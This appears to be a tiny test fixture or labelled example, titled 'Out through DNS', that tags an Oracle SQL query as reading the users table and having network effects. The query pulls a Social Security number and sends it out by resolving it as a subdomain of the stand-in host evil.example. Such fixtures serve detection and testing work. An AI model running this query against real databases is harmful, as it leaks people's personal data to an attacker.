story: Out through DNS
effects: network
reads: USERS
---
SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT ssn FROM users WHERE ROWNUM = 1) || '.evil.example') FROM dual